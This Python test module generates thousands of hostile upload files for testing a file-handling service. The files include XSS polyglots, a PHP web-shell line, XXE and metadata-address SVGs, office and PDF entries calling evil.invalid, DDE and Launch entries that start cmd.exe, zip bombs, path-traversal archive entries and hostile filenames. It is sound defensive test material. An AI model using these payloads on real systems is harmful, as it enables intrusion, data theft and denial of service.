"""Ten thousand hostile files, made from a class and a number; nothing of them lies in the repository.

``hostile("polyglot", 17)`` is the same file on every machine. Within a class the variants take turns, so the first
fifth of each class holds all of them: that is what CI tries, ``make soak`` tries them all.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from random import Random

import pillow_heif
from PIL import Image, ImageCms, PngImagePlugin

from tests.files import seeds
from tests.support.services import EICAR

FORMATS = (("JPEG", ".jpg"), ("PNG", ".png"), ("WEBP", ".webp"), ("HEIF", ".heic"))
SCRIPT = b"<script>alert(document.cookie)</script>"
Made = tuple[str, bytes]


@dataclass(frozen=True)
class Hostile:
    """One file: its class and number, the name it comes under, its bytes."""

    kind: str
    number: int
    name: str
    content: bytes


def hostile(kind: str, number: int) -> Hostile:
    """The file of that number of a class."""
    name, content = MAKERS[kind](Random(f"{kind}:{number}"), number)
    return Hostile(kind, number, name, content)


@cache
def good(format: str, seed: int) -> bytes:
    """A sound picture, one of a few of its format, with what a telephone writes beside it."""
    size = ((80, 60), (61, 97), (128, 128), (33, 200))[seed % 4]
    mode = ("RGB", "RGB", "L", "RGBA")[seed % 4] if format in ("PNG", "WEBP") else "RGB"
    return seeds.picture(format, size, mode, seed, exif=seeds.exif(seed % 8 + 1))


def documents(seed: int) -> Made:
    """A sound document of some kind."""
    return (
        ("a.pdf", seeds.pdf()),
        ("a.docx", seeds.office("docx")),
        ("a.xlsx", seeds.office("xlsx")),
        ("a.pptx", seeds.office("pptx")),
        ("a.txt", "春天到了。\n".encode() * 9),
    )[seed % 5]


def sound(number: int) -> Made:
    """A sound file, pictures and documents in turn."""
    if number % 3 == 2:
        return documents(number // 3)
    format, suffix = FORMATS[number % 4]
    return f"a{suffix}", good(format, number % 8)


# Mutations


def mutated(random: Random, number: int) -> Made:
    name, content = (
        sound(number)
        if number % 7 == 0
        else (f"a{FORMATS[number % 4][1]}", good(FORMATS[number % 4][0], number % 8))
    )
    data = bytearray(content)
    for _ in range(random.choice((1, 1, 2, 4, 16, 64))):
        place = random.randrange(len(data))
        length = random.choice((1, 1, 2, 4, 8, 64))
        match random.randrange(6):
            case 0:
                data[place] ^= 1 << random.randrange(8)
            case 1:
                data[place : place + length] = random.randbytes(length)
            case 2:
                del data[place : place + length]
            case 3:
                data[place:place] = data[place : place + length]
            case 4:
                data[place : place + 4] = random.choice(
                    (b"\xff\xff\xff\xff", b"\0\0\0\0", b"\x7f\xff\xff\xff", b"\x80\0\0\0")
                )
            case _:
                data[place : place + length] = bytes(length)
        if not data:
            data = bytearray(b"\0")
    return name, bytes(data)


# Two kinds at once


def _segment(marker: int, content: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(content) + 2) + content


def _in_jpeg(segment: bytes, seed: int) -> bytes:
    jpeg = good("JPEG", seed)
    return jpeg[:2] + segment + jpeg[2:]


def _png_chunk(name: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))


def _in_png(chunk: bytes, seed: int) -> bytes:
    png = good("PNG", seed)
    return png[:33] + chunk + png[33:]


def _zip(entries: dict[str, bytes], comment: bytes = b"") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.comment = comment
        for name, content in entries.items():
            archive.writestr(name, content)
    return out.getvalue()


def polyglot(random: Random, number: int) -> Made:
    seed = number % 8
    archive = _zip({"index.html": SCRIPT + random.randbytes(number % 50)})
    name, content = (
        ("a.jpg", good("JPEG", seed) + b"<html>" + SCRIPT),
        ("a.jpg", _in_jpeg(_segment(0xFE, b"*/" + SCRIPT + b"/*"), seed)),
        ("a.html.jpg", _in_jpeg(_segment(0xE1, b"<?php system($_GET[1]); ?>"), seed)),
        ("a.gif", b"GIF89a/*" + random.randbytes(40) + b"*/=1;alert(1)"),
        ("a.png", good("PNG", seed) + archive),
        ("a.png", _in_png(_png_chunk(b"tEXt", b"Comment\0" + SCRIPT), seed)),
        ("a.png", _in_png(_png_chunk(b"juNk", archive), seed)),
        ("a.webp", good("WEBP", seed) + SCRIPT),
        ("a.heic", good("HEIF", seed) + archive),
        ("a.pdf", seeds.pdf(tail=SCRIPT)),
        ("a.pdf", seeds.pdf(tail=archive)),
        ("a.pdf", b"<html>" + SCRIPT + seeds.pdf()),
        ("a.pdf", seeds.pdf(extra=b"4 0 obj\n<</S/JavaScript/JS(app.alert(1))>>\nendobj\n")),
        ("a.docx", SCRIPT + seeds.office("docx")),
        ("a.docx", seeds.office("docx") + SCRIPT),
        ("a.xlsx", _zip({"index.html": SCRIPT}, comment=SCRIPT)),
        ("a.txt", "说明\n".encode() + SCRIPT),
        ("a.txt", b"\xff\xd8\xff\xe0" + SCRIPT),
        ("a.html", SCRIPT),
        ("a.jpg", SCRIPT + good("JPEG", seed)),
    )[number % 20]
    return name, content


# Names

NAMES = (
    "a.php{0}", "a{0}.exe", "a{0}.", "a{0} ", "a{0}. . .", "a{0}\x00.exe", "a\x00{0}", "a\u202egpj{0}", "\u202e{0}",
    "../../etc/passwd{0}", "..\\..\\windows\\a{0}", "C:\\a{0}", "/etc/a{0}", "CON{0}", "nul{0}", "LPT1.a{0}",
    "a{0}::$DATA", "a{0}\r\nSet-Cookie: x=1", 'a";filename="b.exe"{0}', "a;b{0}", "a%00{0}", "a%2e%2e%2f{0}",
    "{0}", ".{0}", "...", " ", "\u3000{0}", "家长会 通知（终稿）{0}", "😀{0}", "a\u200b\u200d{0}", "𠮷野家{0}",
    "a．jpg．exe", "e\u0301" * 40 + "{0}", "长" * 300 + "{0}", "a" * 5_000 + "{0}", "<img src=x onerror=alert(1)>{0}",
    "{{7*7}}{0}", "%s%n{0}", "a\ud800{0}", "=cmd|' /C calc'!A0{0}", "-rf{0}", "~{0}", "a/{0}", "a\\", "a{0}/", "aux.{0}",
)  # fmt: skip


def wrong_name(random: Random, number: int) -> Made:
    name, content = sound(number // len(NAMES))
    wrong = random.choice((".html", ".svg", ".exe", ".php", ".JPG", ".pdf", ".txt", "", name[1:]))
    return NAMES[number % len(NAMES)].replace("{0}", wrong if number % 2 else name[1:]), content


# What a picture carries along


def _icc() -> bytes:
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


def metadata(random: Random, number: int) -> Made:
    format, suffix = FORMATS[number % 4]
    xmp = b'<x:xmpmeta xmlns:x="adobe:ns:meta/">' + seeds.PLACE_MARK.encode() + b"</x:xmpmeta>"
    with_all: dict[str, object] = {"exif": seeds.exif(number % 8 + 1), "icc_profile": _icc()}
    if format != "HEIF":
        with_all["xmp"] = xmp
    if format == "PNG":
        text = PngImagePlugin.PngInfo()
        text.add_itxt("XML:com.adobe.xmp", xmp.decode())
        text.add_text("Comment", seeds.PLACE_MARK, zip=number % 8 < 4)
        with_all = {**with_all, "pnginfo": text}
    size = random.randrange(20, 90), random.randrange(20, 90)
    made = seeds.picture(format, size, "RGB", number, **with_all)
    if format == "JPEG":
        thumbnail = b"Exif\0\0MM\0*" + good("JPEG", number % 8)
        made = made[:2] + _segment(0xFE, seeds.PLACE_MARK.encode()) + _segment(0xE1, thumbnail) + made[2:]
        made = made[:2] + _segment(0xED, b"Photoshop 3.0\x008BIM" + seeds.PLACE_MARK.encode()) + made[2:]
    return f"a{suffix}", made + (seeds.PLACE_MARK.encode() if number % 5 == 0 and format != "HEIF" else b"")


# Floods


def _png_claiming(width: int, height: int, content: bytes = b"") -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", head)
        + _png_chunk(b"IDAT", content or zlib.compress(b"\0"))
        + _png_chunk(b"IEND", b"")
    )


def _jpeg_claiming(width: int, height: int, seed: int) -> bytes:
    data = bytearray(good("JPEG", seed))
    place = data.index(b"\xff\xc0") + 5
    data[place : place + 4] = struct.pack(">HH", height, width)
    return bytes(data)


def _webp_claiming(width: int, height: int) -> bytes:
    head = b"\x10\0\0\0" + (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    body = b"WEBPVP8X" + struct.pack("<I", len(head)) + head + good("WEBP", 0)[12:]
    return b"RIFF" + struct.pack("<I", len(body)) + body


@cache
def _all_black(height: int) -> bytes:
    return zlib.compress(bytes((8_000 * 3 + 1) * height), 9)


def pixel_flood(random: Random, number: int) -> Made:
    wide, high = random.randrange(6_400, 60_000), random.randrange(6_400, 60_000)
    match number % 8:
        case 0:
            return "a.png", _png_claiming(50_000, 50_000)
        case 1:
            return "a.png", _png_claiming(12_000, 12_000)
        case 2:
            return "a.png", _png_claiming(wide, high)
        case 3:
            return "a.jpg", _jpeg_claiming(wide, high, number % 8)
        case 4:
            return "a.webp", _webp_claiming(16_383, 16_000 - number)
        case 5:
            return "a.png", _png_claiming(40_000_001 + number, 1)
        case 6:
            return "a.png", _png_claiming(2**31 - 1, 2**31 - 1)
        case _:
            return "a.png", _png_claiming(8_000, 5_001, _all_black(5_001))


# Several pictures


@cache
def _moving(format: str, frames: int) -> bytes:
    images = [Image.new("RGB", (24 + frames, 24), (number * 9 % 256, 80, 90)) for number in range(frames)]
    out = io.BytesIO()
    if format == "HEIF":
        several = pillow_heif.HeifFile()
        for image in images:
            several.add_from_pillow(image)
        several.save(out)
    else:
        images[0].save(out, format, save_all=True, append_images=images[1:])
    return out.getvalue()


def moving(random: Random, number: int) -> Made:
    format, suffix = (
        ("GIF", ".gif"),
        ("PNG", ".png"),
        ("WEBP", ".webp"),
        ("HEIF", ".heic"),
        ("TIFF", ".tiff"),
    )[number % 5]
    return f"a{suffix if number % 2 else '.jpg'}", _moving(format, 2 + number // 5 % 7)


# Cut short


def truncated(random: Random, number: int) -> Made:
    name, content = sound(number if number % 15 != 14 else number + 1)
    if name.endswith(".txt"):
        name, content = "a.png", good("PNG", 1)
    return name, content[: max(1, int(len(content) * random.uniform(0.02, 0.9)))]


# Markup

SVGS = (
    b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>",
    b"<svg><foreignObject><iframe src='javascript:alert(1)'/></foreignObject></svg>",
    b"<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg>&x;</svg>",
    b"<svg><image href='http://169.254.169.254/latest'/></svg>",
    b"<svg><use href='data:image/svg+xml;base64,PHN2Zz4='/></svg>",
    b"<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    b"<!-- --> \n<svg/onload=alert(1)>",
)


def svg(random: Random, number: int) -> Made:
    content = SVGS[number % len(SVGS)]
    match number // len(SVGS) % 4:
        case 0:
            content = b"\xef\xbb\xbf" + content
        case 1:
            content = content.decode().encode("utf-16")
        case 2:
            content = b" " * random.randrange(2_000) + content.replace(b"svg", b"SVG")
    return ("a.svg", "a.png", "a.txt", "a.svg.jpg", "a.html", "a.md", "a.svgz")[number % 7], content


# Office documents that do something

RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
)


def _relation(kind: str, target: str, mode: str = ' TargetMode="External"') -> str:
    return RELATIONS.format(
        f'<Relationship Id="r9" Type="http://schemas.openxmlformats.org/x/{kind}" Target="{target}"{mode}/>'
    )


BOMB = (
    b"<!DOCTYPE a [<!ENTITY a 'aaaaaaaaaa'>"
    + b"".join(
        b"<!ENTITY a%d '%s'>" % (number, b"&a%s;" % (str(number - 1).encode() if number else b"") * 10)
        for number in range(9)
    )
    + b"]><a>&a8;</a>"
)


def macros(random: Random, number: int) -> Made:
    kind = ("docx", "xlsx", "pptx")[number // 20 % 3]
    root = {"docx": "word", "xlsx": "xl", "pptx": "ppt"}[kind]
    junk = random.randbytes(60)
    inner = seeds.office("xlsx", {"xl/vbaProject.bin": junk})
    more, types = (
        ({f"{root}/vbaProject.bin": junk}, ""),
        ({f"{root}/VBAPROJECT.BIN": junk}, ""),
        (
            {},
            '<Override PartName="/x" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
        ),
        ({}, '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
        ({"xl/macrosheets/sheet1.xml": b"<x/>"}, ""),
        ({f"{root}/activeX/activeX1.bin": junk}, ""),
        ({f"{root}/embeddings/oleObject1.bin": junk}, ""),
        ({f"{root}/embeddings/a.exe": b"MZ" + junk}, ""),
        ({f"{root}/embeddings/book.xlsx": inner}, ""),
        (
            {
                f"{root}/_rels/settings.xml.rels": _relation(
                    "attachedTemplate", "http://evil.invalid/a.dotm"
                ).encode()
            },
            "",
        ),
        ({f"{root}/_rels/a.xml.rels": _relation("image", "http://evil.invalid/a.png").encode()}, ""),
        ({f"{root}/_rels/a.xml.rels": _relation("oleObject", "\\\\evil\\share\\a").encode()}, ""),
        ({f"{root}/_rels/a.xml.rels": _relation("hyperlink", "javascript:alert(1)").encode()}, ""),
        ({f"{root}/_rels/a.xml.rels": _relation("frame", "file:///etc/passwd", "").encode()}, ""),
        ({"xl/externalLinks/externalLink1.xml": b"<x/>"}, ""),
        ({f"{root}/f.xml": b"<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText>"}, ""),
        ({f"{root}/bomb.xml": BOMB}, ""),
        ({"customUI/customUI.xml": b"<x onLoad='go'/>"}, ""),
        ({f"{root}/a.html": SCRIPT}, ""),
        ({f"{root}/a.js": b"x"}, ""),
    )[number % 20]
    return f"a.{kind if number % 3 else kind[:-1] + 'm'}", seeds.office(kind, more, types)


# PDFs that do something


def _object(content: bytes) -> bytes:
    return b"4 0 obj\n" + content + b"\nendobj\n"


def _packed(content: bytes, head: bytes = b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode") -> bytes:
    packed = zlib.compress(b"4 0 " + content) if b"FlateDecode" in head else b"4 0 " + content
    return b"5 0 obj\n<<%s/Length %d>>\nstream\n%s\nendstream\nendobj\n" % (head, len(packed), packed)


def _inside_another(content: bytes) -> bytes:
    """A packed stream whose packed bytes hold another object as they are."""
    machine = zlib.compressobj(0)
    packed = machine.compress(content) + machine.flush()
    return b"6 0 obj\n<</Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream\nendobj\n" % (
        len(packed),
        packed,
    )


def pdf_active(random: Random, number: int) -> Made:
    script = b"<</S/JavaScript/JS(app.alert(%d))>>" % number
    extra, catalog, tail = (
        (_object(script), b"/OpenAction 4 0 R", b""),
        (
            _object(script.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/#4aS")),
            b"/OpenAction 4 0 R",
            b"",
        ),
        (_packed(script), b"/OpenAction 4 0 R", b""),
        (_packed(script.replace(b"JavaScript", b"Java#53cript")), b"/OpenAction 4 0 R", b""),
        (
            _packed(script, b"/Type/ObjStm/N 1/First 4/Filter[/ASCIIHexDecode/FlateDecode]"),
            b"/OpenAction 4 0 R",
            b"",
        ),
        (
            _packed(script.hex().encode(), b"/Type/ObjStm/N 1/First 4/Filter/ASCIIHexDecode"),
            b"/OpenAction 4 0 R",
            b"",
        ),
        (_packed(script, b"/Type/ObjStm/N 1/First 4"), b"/OpenAction 4 0 R", b""),
        (
            b"5 0 obj\n<</Length 5>>\nstream\n" + _object(script) + b"endstream\nendobj\n",
            b"/OpenAction 4 0 R",
            b"",
        ),
        (_object(b"<</S/Launch/F(cmd.exe)>>"), b"/OpenAction 4 0 R", b""),
        (
            _object(b"<</Type/EmbeddedFile/Length 3>>\nstream\nMZ\x90\nendstream"),
            b"/Names<</EmbeddedFiles 4 0 R>>",
            b"",
        ),
        (_object(b"<</Type/Filespec/EF<</F 5 0 R>>>>"), b"", b""),
        (b"", b"/AA<</WC 4 0 R>>", b""),
        (_object(b"<</XFA 5 0 R>>"), b"/AcroForm 4 0 R", b""),
        (_object(b"<</Subtype/RichMedia>>"), b"", b""),
        (_object(b"<</S/SubmitForm/F(http://evil.invalid)>>"), b"", b""),
        (_object(b"<</S/GoToE/F(a.pdf)>>"), b"", b""),
        (
            b"",
            b"",
            b"4 0 obj\n" + script + b"\nendobj\ntrailer\n<</Root 1 0 R/Prev 9>>\nstartxref\n9\n%%EOF\n",
        ),
        (_object(b"<</Filter/Standard/V 4>>") + b"%/Encrypt\n", b"", b""),
        (_packed(script, b"/Type/#4fbjStm/N 1/First 4/Filter/FlateDecode"), b"/OpenAction 4 0 R", b""),
        (_object(b"<</S/Rendition/JS(app.alert(1))>>"), b"", b""),
        (_packed(b"0 0 m", b"/Filter/FlateDecode") + _packed(script), b"/OpenAction 4 0 R", b""),
        (
            _packed(b"0 0 m", b"/Filter/FlateDecode") * (number % 7)
            + _packed(script).replace(b"stream\n", b"stream\r\n", 1),
            b"",
            b"",
        ),
        (_inside_another(_packed(script)), b"/OpenAction 4 0 R", b""),
    )[number % 23]
    made = seeds.pdf(extra, catalog, tail)
    if number % 23 == 17:
        made = made.replace(b"/Size 4", b"/Size 4/Encrypt 4 0 R")
    return "a.pdf", made


# Archives and bombs


@cache
def _crowded() -> bytes:
    return seeds.office("docx", {f"word/{one}.xml": b"<a/>" for one in range(3_100)})


def _lying_zip() -> bytes:
    data = bytearray(seeds.office("docx", {"word/a.xml": b"<a>" + b"x" * 5_000 + b"</a>"}))
    place = data.rindex(b"PK\x01\x02")
    data[place + 24 : place + 28] = struct.pack("<I", 10)
    return bytes(data)


@cache
def _zeros(megabytes: int) -> bytes:
    return _zip({"[Content_Types].xml": b"<x/>", "word/document.xml": bytes(megabytes * 1024 * 1024)})


def _linked() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        entry = zipfile.ZipInfo("word/document.xml")
        entry.external_attr = 0o120777 << 16
        archive.writestr(entry, "/etc/passwd")
    return out.getvalue()


def archives(random: Random, number: int) -> Made:
    name, content = (
        ("a.docx", _zeros(40)),
        ("a.docx", _zeros(90)),
        ("a.zip", _zip({"a.txt": b"x"})),
        ("a.docx", _zip({"a.txt": b"x"})),
        ("a.docx", seeds.office("docx", {"a.zip": _zip({"b.zip": _zip({"c": b"x"})})})),
        ("a.docx", _crowded()),
        ("a.docx", seeds.office("docx", {"../../etc/cron.d/a.xml": b"<a/>"})),
        ("a.docx", seeds.office("docx", {"/abs.xml": b"<a/>"})),
        ("a.docx", _linked()),
        ("a.docx", _lying_zip()),
        ("a.xlsx", seeds.office("xlsx", {"WORD.xml": b"<a/>", "word.xml": b"<b/>"})),
        ("a.rar", b"Rar!\x1a\x07\x01\0" + random.randbytes(60)),
        ("a.7z", b"7z\xbc\xaf\x27\x1c" + random.randbytes(60)),
        ("a.tar.gz", b"\x1f\x8b\x08\0" + zlib.compress(bytes(5_000_000))[2:]),
        ("a.docx", b"PK\x03\x04" + random.randbytes(200)),
        ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + random.randbytes(600)),
        ("a.xlsx", b"PK\x05\x06" + bytes(18)),
        ("a.iso", bytes(2_048) + b"CD001"),
        ("a.exe", b"MZ" + random.randbytes(300)),
        ("a.jar", _zip({"META-INF/MANIFEST.MF": b"Main-Class: A", "A.class": b"\xca\xfe\xba\xbe"})),
    )[number % 20]
    return name, content


# Kinds that must not reach a decoder


def other_kinds(random: Random, number: int) -> Made:
    image = Image.linear_gradient("L").resize((40, 30)).convert("RGB")
    out = io.BytesIO()
    kinds = ("TIFF", "BMP", "ICO", "GIF", "PCX", "TGA", "PPM", "AVIF", "EPS", "JPEG2000", "DDS", "SGI")
    kind = kinds[number % len(kinds)] if number % 4 else ""
    if kind:
        image.save(out, kind)
        content = out.getvalue()
    else:
        content = (
            b"8BPS\0\x01" + bytes(6) + struct.pack(">HIIHH", 3, 30_000, 30_000, 8, 3) + random.randbytes(50),
            b"SIMPLE  =                    T" + b" " * 2_850 + random.randbytes(40),
            b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(x) run",
            b"\xc5\xd0\xd3\xc6" + random.randbytes(60),
            b"\0\0\0\x1cftypavif\0\0\0\0avifmif1miaf" + random.randbytes(80),
            b"\0\0\0\x1cftypmif1\0\0\0\0mif1av01" + random.randbytes(80),
            b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom" + random.randbytes(80),
            b"gimp xcf v011\0" + random.randbytes(80),
            b"\x89HDF\r\n\x1a\n" + random.randbytes(80),
        )[number // 4 % 9]
    return ("a.jpg", "a.heic", "a.png", f"a.{(kind or 'psd').lower()}")[number % 4], content


# The scanner's test pattern


def eicar(random: Random, number: int) -> Made:
    return (
        ("a.txt", EICAR),
        ("a.com", EICAR),
        ("a.txt", EICAR + b"\n" * (number % 60)),
        ("a.jpg", good("JPEG", number % 8) + EICAR),
        ("a.jpg", _in_jpeg(_segment(0xFE, EICAR), number % 8)),
        ("a.docx", seeds.office("docx", {"word/media/image1.png": EICAR})),
        ("a.zip", _zip({"eicar.com": EICAR})),
        ("a.pdf", seeds.pdf(extra=b"4 0 obj\n<</Length 68>>\nstream\n" + EICAR + b"\nendstream\nendobj\n")),
        ("a.xlsx", seeds.office("xlsx", {"xl/a.xml": b"<a>" + EICAR.replace(b"<", b"&lt;") + b"</a>"})),
        ("a.png", _in_png(_png_chunk(b"tEXt", b"a\0" + EICAR), number % 8)),
    )[number % 10]


# Odd ones


@cache
def _heavy(which: str) -> Made:
    """What unpacks to far more than it is."""
    match which:
        case "pdf":
            return "a.pdf", seeds.pdf(extra=_packed(bytes(3_000_000), b"/Filter/FlateDecode") * 40)
        case "words":
            return "a.pdf", b"%PDF-1.7\n" + b"1 0 obj<<" * 20_000 + b"startxref\n0\n%%EOF"
        case "streams":
            return "a.pdf", b"%PDF-1.7\n" + b"stream\n" * 50_000 + b"startxref\n0\n%%EOF"
        case "text":
            return "a.png", _in_png(_png_chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(30_000_000))), 1)
        case _:
            return "a.png", _in_png(_png_chunk(b"iCCP", b"a\0\0" + zlib.compress(bytes(30_000_000))), 1)


def odd(random: Random, number: int) -> Made:
    heavy = {13: "pdf", 14: "words", 15: "streams", 16: "text", 17: "profile"}
    if number % 20 in heavy:
        return _heavy(heavy[number % 20])
    return (
        ("a.jpg", b""),
        ("a.txt", b""),
        ("a.pdf", b"%PDF-1.7"),
        ("a.png", b"\x89PNG\r\n\x1a\n"),
        ("a.txt", b"\0" * (number + 1)),
        ("a.txt", random.randbytes(number + 1)),
        ("a.docx", b"PK\x03\x04"),
        ("a.jpg", b"\xff\xd8\xff"),
        ("a.heic", b"\0\0\0\x18ftypheic"),
        ("a" * 20_000 + ".jpg", good("JPEG", number % 8)),
        ("a.txt", "\u202e反着写".encode()),
        ("a.txt", b"\xff\xfe" + "说明".encode("utf-16-le")),
        ("a.txt", "说明".encode("gb18030") + b"\xff\xff"),
        ("", b""), ("", b""), ("", b""), ("", b""), ("", b""),
        ("a.txt", b"a" * 500_000),
        ("a.jpg", good("JPEG", 1)[:2] + _segment(0xE1, b"Exif\0\0" + random.randbytes(3_000)) * 18 + good("JPEG", 1)[2:]),
    )[number % 20]  # fmt: skip


def duplicate(random: Random, number: int) -> Made:
    """The same few files over and over, under other names."""
    name, content = sound(number % 10)
    return f"{number}-{name}", content


MAKERS: dict[str, Callable[[Random, int], Made]] = {
    "mutated": mutated,
    "polyglot": polyglot,
    "wrong_name": wrong_name,
    "metadata": metadata,
    "pixel_flood": pixel_flood,
    "moving": moving,
    "truncated": truncated,
    "svg": svg,
    "macros": macros,
    "pdf_active": pdf_active,
    "archives": archives,
    "other_kinds": other_kinds,
    "eicar": eicar,
    "odd": odd,
    "duplicate": duplicate,
}
COUNTS = {
    "mutated": 2_000,
    "polyglot": 1_500,
    "wrong_name": 1_000,
    "metadata": 1_000,
    "pixel_flood": 500,
    "moving": 500,
    "truncated": 500,
    "svg": 500,
    "macros": 500,
    "pdf_active": 300,
    "archives": 300,
    "other_kinds": 200,
    "eicar": 200,
    "odd": 500,
    "duplicate": 500,
}
CI_SHARE = 5
"""CI tries the first fifth of each class."""
ALWAYS_REFUSED = (
    "pixel_flood",
    "moving",
    "truncated",
    "svg",
    "macros",
    "pdf_active",
    "archives",
    "other_kinds",
)
ALWAYS_TAKEN = ("wrong_name", "metadata", "duplicate")
